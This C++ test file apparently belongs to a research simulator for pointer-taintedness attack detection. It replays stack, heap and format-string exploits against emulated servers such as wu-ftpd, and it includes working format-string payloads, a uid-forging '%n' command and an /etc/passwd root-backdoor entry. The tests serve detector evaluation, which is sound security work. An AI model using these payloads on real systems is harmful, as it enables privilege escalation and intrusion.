  const auto want_b = reference.analyze(b, {});
  const auto want_am = SummaryCache().analyze(a_mut, {});

  SummaryCache cache;
  constexpr int kThreads = 4;
  constexpr int kRounds = 6;
  std::vector<int> failures(kThreads, 0);
  {
    std::vector<std::thread> threads;
    for (int t = 0; t < kThreads; ++t) {
      threads.emplace_back([&, t] {
        for (int r = 0; r < kRounds; ++r) {
          const int pick = (t + r) % 3;
          const asmgen::Program& p = pick == 0 ? a : pick == 1 ? b : a_mut;
          const CachedAnalysis& want =
              pick == 0 ? *want_a : pick == 1 ? *want_b : *want_am;
          const auto got = cache.analyze(p, {});
          if (!identical(Cfg(p), want, *got)) ++failures[t];
        }
      });
    }
    for (auto& th : threads) th.join();
  }
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(failures[t], 0) << "thread " << t;
  const CacheStats s = cache.stats();
  EXPECT_EQ(s.lookups, static_cast<uint64_t>(kThreads * kRounds));
  EXPECT_EQ(s.hits + s.cold_misses + s.warm_hits + s.warm_fallbacks,
            s.lookups);
  if (SummaryCache::enabled()) {
    EXPECT_EQ(s.entries, 3u);
  }
}

}  // namespace
}  // namespace ptaint::analysis
