// Integration tests reproducing the paper's evaluation (Section 5.1):
// every synthetic and real-application attack must be detected under the
// pointer-taintedness policy, succeed when unprotected, and split exactly
// along the control-data line under the control-data-only baseline.  The
// matching benign workloads must run clean (no false positives).
#include <gtest/gtest.h>

#include <stdexcept>

#include "core/attack.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

using cpu::AlertKind;
using cpu::DetectionMode;

ScenarioResult attack(AttackId id, DetectionMode mode) {
  return make_scenario(id)->run_attack(mode);
}

// ---- Figure 2 / Section 5.1.1 synthetic attacks ----

TEST(Exp1Stack, DetectedAtReturnJump) {
  auto r = attack(AttackId::kExp1Stack, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedJumpTarget);
  EXPECT_EQ(r.report.alert->disasm, "jr $31");
  EXPECT_EQ(r.report.alert_function, "exp1");
}

TEST(Exp1Stack, PaperInputTaintsReturnAddressAs61616161) {
  // The paper's demo input: 24 'a' characters; the return address becomes
  // 0x61616161 and the alert fires at exp1's jr $31.
  MachineConfig cfg;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
  m.os().set_stdin(std::string(24, 'a'));
  auto rep = m.run();
  ASSERT_TRUE(rep.detected());
  EXPECT_EQ(rep.alert->disasm, "jr $31");
  EXPECT_EQ(rep.alert->reg_value, 0x61616161u);
}

TEST(Exp1Stack, BaselineAlsoCatchesControlData) {
  auto r = attack(AttackId::kExp1Stack, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kDetected);
}

TEST(Exp1Stack, UnprotectedHijacksControlFlow) {
  auto r = attack(AttackId::kExp1Stack, DetectionMode::kOff);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Exp2Heap, DetectedInsideFree) {
  auto r = attack(AttackId::kExp2Heap, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedStoreAddress);
  EXPECT_EQ(r.report.alert_function, "free");
}

TEST(Exp2Heap, PaperStyleInputShowsTainted61616161Links) {
  // All-'a' style overflow: links become 0x636363.. ("cccc"); the paper's
  // 0x61616161 differs only because our chunks carry a size header.
  MachineConfig cfg;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp2_heap()));
  std::string payload(12, 'a');
  payload += "bbbb";  // even "size" 0x62626262
  payload += "cccc";  // forward link 0x63636363
  m.os().set_stdin(payload);
  auto rep = m.run();
  ASSERT_TRUE(rep.detected());
  EXPECT_EQ(rep.alert->reg_value, 0x63636363u);
  EXPECT_EQ(rep.alert_function, "free");
}

TEST(Exp2Heap, BaselineMissesDataOnlyCorruption) {
  auto r = attack(AttackId::kExp2Heap, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Exp2Heap, UnprotectedWritesArbitraryWord) {
  auto r = attack(AttackId::kExp2Heap, DetectionMode::kOff);
  ASSERT_EQ(r.outcome, Outcome::kCompromised);
  EXPECT_NE(r.detail.find("admin_mode"), std::string::npos);
}

TEST(Exp3Format, DetectedAtPercentNStore) {
  auto r = attack(AttackId::kExp3Format, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->disasm, "sw $21,0($3)");
  EXPECT_EQ(r.report.alert->reg_value, 0x64636360u);
  EXPECT_EQ(r.report.alert_function, "vfprintf");
}

TEST(Exp3Format, PaperInputAlertsWithAbcdTarget) {
  // The paper's exact string: abcd%x%x%x%n -> SW $21,0($3), $3=0x64636261.
  MachineConfig cfg;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp3_format()));
  m.os().net().add_session({"abcd%x%x%x%n"});
  auto rep = m.run();
  ASSERT_TRUE(rep.detected());
  EXPECT_EQ(rep.alert->disasm, "sw $21,0($3)");
  EXPECT_EQ(rep.alert->reg_value, 0x64636261u);
}

TEST(Exp3Format, BaselineMissesFormatWrite) {
  auto r = attack(AttackId::kExp3Format, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kCompromised);
}

// ---- Section 5.1.2 real-application attacks ----

TEST(WuFtpd, Table2TranscriptReproduced) {
  auto r = attack(AttackId::kWuFtpdFormat, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->disasm, "sw $21,0($3)");
  EXPECT_EQ(r.report.alert->reg_value, 0x1002bc20u);  // &login_uid
  EXPECT_EQ(r.report.alert_function, "vfprintf");
}

TEST(WuFtpd, ServerDialogueMatchesTable2) {
  auto r = attack(AttackId::kWuFtpdFormat, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.report.net_transcripts.size(), 1u);
  const std::string& t = r.report.net_transcripts[0];
  EXPECT_NE(t.find("220 FTP server (Version wu-2.6.0(60)"), std::string::npos);
  EXPECT_NE(t.find("331 Password required for user1 ."), std::string::npos);
  EXPECT_NE(t.find("230 User user1 logged in."), std::string::npos);
}

TEST(WuFtpd, UnprotectedEscalatesPrivilege) {
  auto r = attack(AttackId::kWuFtpdFormat, DetectionMode::kOff);
  ASSERT_EQ(r.outcome, Outcome::kCompromised);
  EXPECT_NE(r.detail.find("login_uid"), std::string::npos);
}

TEST(WuFtpd, WidthPaddingWritesAttackerChosenUid) {
  // Weaponized precision: %16x padding makes the %n count land exactly on
  // the value the attacker wants in the uid word (4 addr bytes + 6*16).
  MachineConfig cfg;
  cfg.policy.mode = DetectionMode::kOff;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::wu_ftpd()));
  const uint32_t uid_addr = m.program().symbols.at("login_uid");
  std::string cmd = "site exec ";
  for (int i = 0; i < 4; ++i) cmd += static_cast<char>(uid_addr >> (8 * i));
  cmd += "%16x%16x%16x%16x%16x%16x%n";
  m.os().net().add_session(
      {"user user1\r\n", "pass xxxxxxx\r\n", cmd + "\r\n", "quit\r\n"});
  auto rep = m.run();
  EXPECT_EQ(rep.stop, cpu::StopReason::kExit);
  EXPECT_EQ(m.memory().load_word(uid_addr).value, 100u);  // 4 + 6*16
}

TEST(WuFtpd, NormalUsersCannotUploadSystemFiles) {
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::wu_ftpd()));
  m.os().vfs().install("/etc/passwd", std::string("root:x:0:0:\n"));
  m.os().net().add_session({"user user1\r\n", "pass xxxxxxx\r\n",
                            "STOR /etc/passwd\r\n", "quit\r\n"});
  auto rep = m.run();
  EXPECT_EQ(rep.stop, cpu::StopReason::kExit);
  ASSERT_EQ(rep.net_transcripts.size(), 1u);
  EXPECT_NE(rep.net_transcripts[0].find("550 Permission denied."),
            std::string::npos);
  const auto* pw = m.os().vfs().contents("/etc/passwd");
  ASSERT_NE(pw, nullptr);
  EXPECT_EQ(std::string(pw->begin(), pw->end()), "root:x:0:0:\n");
}

TEST(WuFtpd, UploadToHomeDirectoryWorks) {
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::wu_ftpd()));
  m.os().net().add_session({"user user1\r\n", "pass xxxxxxx\r\n",
                            "STOR /home/user1/notes\r\n", "hello there",
                            "quit\r\n"});
  auto rep = m.run();
  EXPECT_EQ(rep.stop, cpu::StopReason::kExit);
  const auto* f = m.os().vfs().contents("/home/user1/notes");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(std::string(f->begin(), f->end()), "hello there");
}

TEST(WuFtpd, FullPaperStoryBackdoorViaUidOverwrite) {
  // The paper's complete attack narrative: the %n write forges an
  // administrative uid, after which the attacker uploads a modified
  // /etc/passwd containing a root backdoor entry for "alice".  Only
  // possible with the detector off; the paper's architecture stops the
  // chain at the SITE EXEC step.
  MachineConfig cfg;
  cfg.policy.mode = DetectionMode::kOff;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::wu_ftpd()));
  m.os().vfs().install("/etc/passwd", std::string("root:x:0:0:\n"));
  const uint32_t uid_addr = m.program().symbols.at("login_uid");
  std::string cmd = "site exec ";
  for (int i = 0; i < 4; ++i) cmd += static_cast<char>(uid_addr >> (8 * i));
  // 4 + 5*16 + 11 = 95 characters before %n: a forged uid below 100.
  cmd += "%16x%16x%16x%16x%16x%11x%n";
  m.os().net().add_session(
      {"user user1\r\n", "pass xxxxxxx\r\n", cmd + "\r\n",
       "STOR /etc/passwd\r\n", "alice:x:0:0::/home/root:/bin/bash\n",
       "quit\r\n"});
  auto rep = m.run();
  EXPECT_EQ(rep.stop, cpu::StopReason::kExit);
  EXPECT_EQ(m.memory().load_word(uid_addr).value, 95u);
  const auto* pw = m.os().vfs().contents("/etc/passwd");
  ASSERT_NE(pw, nullptr);
  EXPECT_NE(std::string(pw->begin(), pw->end()).find("alice:x:0:0"),
            std::string::npos);

  // Same chain with the detector on: stopped at the %n dereference,
  // before any privilege state or file changed.
  Machine guarded;
  guarded.load_sources(guest::link_with_runtime(guest::apps::wu_ftpd()));
  guarded.os().vfs().install("/etc/passwd", std::string("root:x:0:0:\n"));
  guarded.os().net().add_session(
      {"user user1\r\n", "pass xxxxxxx\r\n", cmd + "\r\n",
       "STOR /etc/passwd\r\n", "alice:x:0:0::/home/root:/bin/bash\n"});
  auto safe = guarded.run();
  ASSERT_TRUE(safe.detected());
  const auto* pw2 = guarded.os().vfs().contents("/etc/passwd");
  EXPECT_EQ(std::string(pw2->begin(), pw2->end()), "root:x:0:0:\n");
}

TEST(WuFtpd, ControlDataBaselineMissesUidOverwrite) {
  auto r = attack(AttackId::kWuFtpdFormat, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(WuFtpd, ServesMultipleConnectionsAndDetectsOnTheSecond) {
  // The accept loop serves a clean session, then the attack arrives on a
  // fresh connection — detection happens mid-service, like the paper's
  // long-running daemon scenario.
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::wu_ftpd()));
  const uint32_t uid_addr = m.program().symbols.at("login_uid");
  std::string cmd = "site exec ";
  for (int i = 0; i < 4; ++i) cmd += static_cast<char>(uid_addr >> (8 * i));
  cmd += "%x%x%x%x%x%x%n";
  m.os().net().add_session({"user user1\r\n", "pass xxxxxxx\r\n", "quit\r\n"});
  m.os().net().add_session(
      {"user user1\r\n", "pass xxxxxxx\r\n", cmd + "\r\n"});
  auto rep = m.run();
  ASSERT_TRUE(rep.detected());
  EXPECT_EQ(rep.alert->reg_value, uid_addr);
  // The first session completed normally before the attack.
  ASSERT_EQ(rep.net_transcripts.size(), 2u);
  EXPECT_NE(rep.net_transcripts[0].find("221 Goodbye."), std::string::npos);
}

TEST(NullHttpd, DetectedAtCorruptedUnlink) {
  auto r = attack(AttackId::kNullHttpdHeap, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert_function, "free");
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedStoreAddress);
}

TEST(NullHttpd, UnprotectedSpawnsShellViaCgiRoot) {
  auto r = attack(AttackId::kNullHttpdHeap, DetectionMode::kOff);
  ASSERT_EQ(r.outcome, Outcome::kCompromised);
  EXPECT_NE(r.detail.find("/bin/sh"), std::string::npos);
}

TEST(NullHttpd, ControlDataBaselineMissesConfigOverwrite) {
  auto r = attack(AttackId::kNullHttpdHeap, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Ghttpd, DetectedAtTaintedUrlPointerLoad) {
  auto r = attack(AttackId::kGhttpdStack, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedLoadAddress);
  // A load-byte instruction dereferences the redirected URL pointer.
  EXPECT_EQ(r.report.alert->inst.op, isa::Op::kLbu);
}

TEST(Ghttpd, UnprotectedEscapesDocumentRoot) {
  auto r = attack(AttackId::kGhttpdStack, DetectionMode::kOff);
  ASSERT_EQ(r.outcome, Outcome::kCompromised);
  EXPECT_NE(r.detail.find("/bin/sh"), std::string::npos);
}

TEST(Ghttpd, ControlDataBaselineMissesUrlPointer) {
  auto r = attack(AttackId::kGhttpdStack, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Traceroute, DetectedInsideAllocator) {
  auto r = attack(AttackId::kTracerouteDoubleFree,
                  DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  // The dereferenced value is the argv-tainted "8.8." word.
  EXPECT_EQ(r.report.alert->reg_value, 0x2e382e38u);
  EXPECT_EQ(r.report.alert_function, "malloc");
}

TEST(Traceroute, UnprotectedPerformsWildWrite) {
  auto r = attack(AttackId::kTracerouteDoubleFree, DetectionMode::kOff);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Globd, DetectedAtCorruptedUnlink) {
  auto r = attack(AttackId::kGlobExpansion, DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert_function, "free");
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedStoreAddress);
  // FD is the crafted link smuggled through the tilde expansion.
  EXPECT_EQ(r.report.alert->reg_value & 0xff, 0x04u);
}

TEST(Globd, UnprotectedOverwritesConfigWord) {
  auto r = attack(AttackId::kGlobExpansion, DetectionMode::kOff);
  ASSERT_EQ(r.outcome, Outcome::kCompromised);
  EXPECT_NE(r.detail.find("glob_admin"), std::string::npos);
}

TEST(Globd, ControlDataBaselineMissesIt) {
  auto r = attack(AttackId::kGlobExpansion, DetectionMode::kControlDataOnly);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Globd, BenignGlobbingExpandsCorrectly) {
  auto s = make_scenario(AttackId::kGlobExpansion);
  auto r = s->run_benign();
  ASSERT_EQ(r.outcome, Outcome::kBenign) << r.detail;
  ASSERT_EQ(r.report.net_transcripts.size(), 1u);
  const std::string& t = r.report.net_transcripts[0];
  EXPECT_NE(t.find("readme.txt notes.txt paper.pdf"), std::string::npos);
  EXPECT_NE(t.find("/home/bob"), std::string::npos);
}

// ---- Table 4 false negatives: honest misses ----

TEST(FalseNegatives, IntegerOverflowEscapes) {
  auto r = attack(AttackId::kFnIntOverflow, DetectionMode::kPointerTaint);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(FalseNegatives, AuthFlagOverwriteEscapes) {
  auto r = attack(AttackId::kFnAuthFlag, DetectionMode::kPointerTaint);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(FalseNegatives, FormatLeakEscapes) {
  auto r = attack(AttackId::kFnFormatLeak, DetectionMode::kPointerTaint);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(FalseNegatives, PercentNVariantOfLeakIsStillCaught) {
  // Table 4(C) discussion: %x%x%x%n (a write) alerts even though
  // %x%x%x%x (a read) escapes.
  MachineConfig cfg;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::fn_format_leak()));
  // Four %x pops walk past the three home slots and the secret word; the
  // %n target is then read from attacker bytes.
  m.os().net().add_session({"abcd%x%x%x%x%n"});
  auto rep = m.run();
  EXPECT_TRUE(rep.detected());
}

// ---- address-leak -> precise-overwrite scenarios ----

cpu::TaintPolicy leak_policy() {
  cpu::TaintPolicy p;  // paper defaults
  p.leak_detection = true;
  return p;
}

class LeakScenarios : public ::testing::TestWithParam<AttackId> {};

TEST_P(LeakScenarios, EscapesTheDataTaintDirection) {
  // The overwrite phase is compare-validated, so the paper policy (data
  // taint only) misses it — same class as the Table 4 false negatives.
  auto r = make_scenario(GetParam())->run_attack(DetectionMode::kPointerTaint);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST_P(LeakScenarios, LeakDetectionAlertsAtTheDisclosure) {
  auto r = make_scenario(GetParam())->run_attack_with(leak_policy());
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->kind, AlertKind::kAddressLeak);
}

TEST_P(LeakScenarios, UnprotectedAttackLands) {
  auto r = make_scenario(GetParam())->run_attack(DetectionMode::kOff);
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

INSTANTIATE_TEST_SUITE_P(AllLeaks, LeakScenarios,
                         ::testing::Values(AttackId::kLeakTelemetry,
                                           AttackId::kLeakSession,
                                           AttackId::kLeakBanner));

TEST(LeakScenarios2, TelemetryLeaksStackPlane) {
  auto r = make_scenario(AttackId::kLeakTelemetry)
               ->run_attack_with(leak_policy());
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_NE(r.report.alert->region.find("stack-addr"), std::string::npos)
      << r.report.alert->region;
  EXPECT_EQ(r.report.alert_function, "send");
}

TEST(LeakScenarios2, SessionTokenLeaksHeapPlane) {
  auto r =
      make_scenario(AttackId::kLeakSession)->run_attack_with(leak_policy());
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_NE(r.report.alert->region.find("heap-addr"), std::string::npos)
      << r.report.alert->region;
}

TEST(LeakScenarios2, FormattedHexDigitsStillCarryTheStackPlane) {
  // The %x conversion shifts/divides the pointer into ASCII digits; the
  // per-byte provenance planes ride through, so the alert fires inside the
  // formatter's one-byte putc, not at a raw pointer write.
  auto r =
      make_scenario(AttackId::kLeakBanner)->run_attack_with(leak_policy());
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_NE(r.report.alert->region.find("stack-addr"), std::string::npos)
      << r.report.alert->region;
  EXPECT_EQ(r.report.alert_function, "__pf_putc");
}

TEST(MayPublish, AnnotatedPublisherSuppressesTheLeakAlert) {
  // Reference: the PEEK reply ships &reqbuf over the wire and the leak
  // check fires inside `send`.
  {
    MachineConfig cfg;
    cfg.policy = leak_policy();
    Machine m(cfg);
    m.load_sources(guest::link_with_runtime(guest::apps::leak_telemetry()));
    m.os().net().add_session({"PEEK", "QUIT"});
    auto rep = m.run();
    ASSERT_TRUE(rep.detected());
    ASSERT_EQ(rep.alert_function, "send");
  }
  // §5.3 waiver: declaring `send` a legitimate pointer publisher silences
  // exactly that site; the run completes like an unprotected one.
  {
    MachineConfig cfg;
    cfg.policy = leak_policy();
    cfg.may_publish = {"send"};
    Machine m(cfg);
    m.load_sources(guest::link_with_runtime(guest::apps::leak_telemetry()));
    m.os().net().add_session({"PEEK", "QUIT"});
    auto rep = m.run();
    EXPECT_FALSE(rep.detected()) << rep.alert_line();
    EXPECT_TRUE(rep.exited_cleanly()) << rep.fault;
  }
}

TEST(MayPublish, WaiverIsScopedToTheAnnotatedFunction) {
  // Waiving an unrelated function must not mask the disclosure in send.
  MachineConfig cfg;
  cfg.policy = leak_policy();
  cfg.may_publish = {"main"};
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::leak_telemetry()));
  m.os().net().add_session({"PEEK", "QUIT"});
  auto rep = m.run();
  ASSERT_TRUE(rep.detected());
  EXPECT_EQ(rep.alert_function, "send");
}

TEST(MayPublish, UnknownFunctionThrowsOnLoad) {
  MachineConfig cfg;
  cfg.may_publish = {"no_such_function"};
  Machine m(cfg);
  EXPECT_THROW(
      m.load_sources(guest::link_with_runtime(guest::apps::leak_telemetry())),
      std::out_of_range);
}

TEST(MayPublish, WaiverSurvivesSnapshotRestore) {
  MachineConfig cfg;
  cfg.policy = leak_policy();
  cfg.may_publish = {"send"};
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::leak_telemetry()));
  m.os().net().add_session({"PEEK", "QUIT"});
  MachineSnapshot snap = m.snapshot();
  ASSERT_FALSE(m.run().detected());

  Machine fork(cfg);  // same config: the waiver re-resolves on restore
  fork.restore(snap);
  auto rep = fork.run();
  EXPECT_FALSE(rep.detected()) << rep.alert_line();
  EXPECT_TRUE(rep.exited_cleanly());
}

TEST(LeakScenarios2, BenignSessionsRunCleanUnderLeakDetection) {
  // The benign twins never ship an address, so leak detection must not
  // false-positive on them even though it is armed.
  struct Row {
    asmgen::Source (*app)();
    std::vector<std::string> session;
  };
  const Row rows[] = {
      {&guest::apps::leak_telemetry, {"STAT", "QUIT"}},
      {&guest::apps::leak_session, {"HELO", "QUIT"}},
      {&guest::apps::leak_banner, {"hello from client", "status check"}},
  };
  for (const Row& row : rows) {
    MachineConfig cfg;
    cfg.policy = leak_policy();
    Machine m(cfg);
    m.load_sources(guest::link_with_runtime(row.app()));
    m.os().net().add_session(row.session);
    auto rep = m.run();
    EXPECT_FALSE(rep.detected()) << rep.alert_line();
    EXPECT_TRUE(rep.exited_cleanly()) << rep.fault;
  }
}

// ---- no false positives on the benign twins ----

class BenignCorpus : public ::testing::TestWithParam<int> {};

TEST_P(BenignCorpus, RunsCleanUnderFullPolicy) {
  auto corpus = make_attack_corpus();
  auto& scenario = corpus.at(GetParam());
  auto r = scenario->run_benign();
  EXPECT_EQ(r.outcome, Outcome::kBenign)
      << scenario->name() << ": " << r.detail;
}

INSTANTIATE_TEST_SUITE_P(AllScenarios, BenignCorpus, ::testing::Range(0, 15));

}  // namespace
}  // namespace ptaint::core
