// Machine snapshot/restore determinism.
//
// The campaign engine's correctness rests on one invariant: a machine
// restored from a snapshot of M behaves byte-identically to M continuing
// from the snapshot point.  These tests pin that down for post-load forks,
// mid-run snapshots (tainted heap state, open VFS file), in-place
// restores, policy-variant forks, and the decode-cache/self-modifying-code
// interaction.
#include <gtest/gtest.h>

#include <cstdlib>
#include <sstream>
#include <thread>
#include <vector>

#include "core/attack.hpp"
#include "core/machine.hpp"
#include "core/spec_workloads.hpp"

namespace ptaint::core {
namespace {

/// True when the PTAINT_NO_COW escape hatch is on: every restore is a deep
/// copy, so assertions about sharing/delta counters must be skipped (the
/// behavioural assertions still hold — that is the point of the hatch).
bool cow_disabled() {
  const char* env = std::getenv("PTAINT_NO_COW");
  return env != nullptr && *env != '\0' && std::string(env) != "0";
}

/// Everything observable about a finished run, as one comparable string.
std::string fingerprint(const RunReport& r) {
  std::ostringstream ss;
  ss << "stop=" << static_cast<int>(r.stop) << " exit=" << r.exit_status
     << " alert=" << (r.alert ? r.alert_line() : "-")
     << " alert_fn=" << r.alert_function << " fault=" << r.fault
     << " inst=" << r.cpu_stats.instructions
     << " loads=" << r.cpu_stats.loads << " stores=" << r.cpu_stats.stores
     << " tainted_loads=" << r.cpu_stats.tainted_loads
     << " tainted_stores=" << r.cpu_stats.tainted_stores
     << " taint_evals=" << r.taint_stats.evaluations
     << " taint_tevals=" << r.taint_stats.tainted_evaluations
     << " taint_cuntaints=" << r.taint_stats.compare_untaints
     << " tainted_bytes=" << r.tainted_memory_bytes
     << " stdout=[" << r.stdout_text << "] stderr=[" << r.stderr_text << "]";
  for (const auto& t : r.net_transcripts) ss << " net=[" << t << "]";
  return ss.str();
}

TEST(Snapshot, PostLoadForkRunsIdentically) {
  auto scenario = make_scenario(AttackId::kExp1Stack);
  auto original = scenario->prepare_attack({});
  MachineSnapshot snap = original->snapshot();

  RunReport a = original->run();

  Machine fork;  // default config, same policy as prepare_attack({})
  fork.restore(snap);
  RunReport b = fork.run();

  EXPECT_EQ(fingerprint(a), fingerprint(b));
  EXPECT_TRUE(a.detected());
}

TEST(Snapshot, MidRunForkWithTaintedHeapAndOpenVfsFile) {
  // A SPEC surrogate mid-run: /input is installed in the VFS and the guest
  // has already pulled tainted bytes from it into heap/data structures.
  const auto workloads = make_spec_workloads(1);
  const SpecWorkload& w = workloads.front();

  auto original = prepare_spec_workload(w, {});
  ASSERT_EQ(original->run_for(20'000), cpu::StopReason::kRunning);
  MachineSnapshot snap = original->snapshot();
  ASSERT_GT(snap.memory.tainted_byte_count(), 0u)
      << "snapshot should capture live tainted state";

  while (original->run_for(1'000'000) == cpu::StopReason::kRunning) {
  }
  RunReport a = original->report();

  MachineConfig cfg;
  cfg.max_instructions = 2'000'000'000;
  Machine fork(cfg);
  fork.restore(snap);
  while (fork.run_for(1'000'000) == cpu::StopReason::kRunning) {
  }
  RunReport b = fork.report();

  EXPECT_EQ(fingerprint(a), fingerprint(b));
  EXPECT_EQ(a.stop, cpu::StopReason::kExit);
}

TEST(Snapshot, InPlaceRestoreReplaysTheRun) {
  auto scenario = make_scenario(AttackId::kExp3Format);
  auto machine = scenario->prepare_attack({});
  MachineSnapshot snap = machine->snapshot();

  RunReport first = machine->run();
  machine->restore(snap);
  RunReport second = machine->run();

  EXPECT_EQ(fingerprint(first), fingerprint(second));
}

TEST(Snapshot, ForkUnderDifferentPolicyMatchesSerialRun) {
  // The campaign engine arms one snapshot under the default policy and
  // forks it under every ablation variant; that is only sound if the
  // pre-run state is policy-independent.  Compare against preparing
  // directly under the variant.
  cpu::TaintPolicy variant;
  variant.shift_smear = false;

  auto scenario = make_scenario(AttackId::kExp2Heap);
  MachineSnapshot snap = scenario->prepare_attack({})->snapshot();

  MachineConfig cfg;
  cfg.policy = variant;
  Machine fork(cfg);
  fork.restore(snap);
  ScenarioResult from_fork = scenario->classify_attack(fork, fork.run());

  ScenarioResult serial = scenario->run_attack_with(variant);

  EXPECT_EQ(fingerprint(from_fork.report), fingerprint(serial.report));
  EXPECT_EQ(from_fork.outcome, serial.outcome);
  EXPECT_EQ(from_fork.detail, serial.detail);
}

// Code that patches already-executed text: the decoded-instruction cache
// must drop the stale decode, and a snapshot/restore cycle must replay the
// whole dance identically.
const char* kSelfModifying = R"(
    .text
_start:
    jal patchme
    # First call returns 1.  Copy the two instructions at src over
    # patchme, then call again; must now return 42.
    la $t0, src
    la $t1, patchme
    lw $t2, 0($t0)
    sw $t2, 0($t1)
    lw $t2, 4($t0)
    sw $t2, 4($t1)
    jal patchme
    move $a0, $v0
    li $v0, 1
    syscall
patchme:
    li $v0, 1
    jr $ra
src:
    li $v0, 42
    jr $ra
)";

TEST(Snapshot, SelfModifyingCodeInvalidatesDecodeCacheAcrossRestore) {
  Machine m;
  m.load_source(kSelfModifying);
  MachineSnapshot snap = m.snapshot();

  RunReport first = m.run();
  EXPECT_EQ(first.stop, cpu::StopReason::kExit);
  EXPECT_EQ(first.exit_status, 42) << "stale decode executed after patch";

  m.restore(snap);
  RunReport second = m.run();
  EXPECT_EQ(fingerprint(first), fingerprint(second));
}

// --- COW restore path -----------------------------------------------------

TEST(Snapshot, RepeatedRestoreTakesDeltaPathWithMatchingRollups) {
  auto scenario = make_scenario(AttackId::kExp1Stack);
  auto machine = scenario->prepare_attack({});
  MachineSnapshot snap = machine->snapshot();
  const uint64_t armed_tainted = snap.memory.tainted_byte_count();

  RunReport first = machine->run();
  if (!cow_disabled()) {
    EXPECT_GT(machine->memory().dirty_page_count(), 0u)
        << "the run must have dirtied pages for a delta to exist";
  }

  machine->restore(snap);
  if (!cow_disabled()) {
    const auto stats = machine->memory().cow_stats();
    EXPECT_GE(stats.delta_restores, 1u)
        << "restoring to the snapshot this machine took must be a delta";
    EXPECT_GE(stats.pages_delta_restored, 1u);
    EXPECT_EQ(machine->memory().dirty_page_count(), 0u);
  }
  // Page-summary rollups come back from the base, not from a rescan.
  EXPECT_EQ(machine->memory().tainted_byte_count(), armed_tainted);

  RunReport second = machine->run();
  EXPECT_EQ(fingerprint(first), fingerprint(second));
}

TEST(Snapshot, ManyForksWithInterleavedRestoresMatchFullCopyReference) {
  // N COW forks of one snapshot, each run/restored/re-run on staggered
  // schedules, must all report exactly what a PTAINT_NO_COW-style deep-copy
  // machine reports.
  auto scenario = make_scenario(AttackId::kExp2Heap);
  MachineSnapshot snap = scenario->prepare_attack({})->snapshot();

  MachineConfig full_cfg;
  full_cfg.no_cow = true;
  Machine reference(full_cfg);
  reference.restore(snap);
  const std::string want = fingerprint(reference.run());

  constexpr int kForks = 6;
  std::vector<std::unique_ptr<Machine>> forks;
  for (int i = 0; i < kForks; ++i) {
    forks.push_back(std::make_unique<Machine>());
    forks.back()->restore(snap);
  }
  // Stagger: odd forks run a prefix, restore, then everyone runs to the
  // end — writes on one fork's pages must never reach a sibling's.
  for (int i = 1; i < kForks; i += 2) {
    forks[i]->run_for(500 * static_cast<uint64_t>(i));
    forks[i]->restore(snap);
    if (!cow_disabled()) {
      EXPECT_GE(forks[i]->memory().cow_stats().delta_restores, 1u);
    }
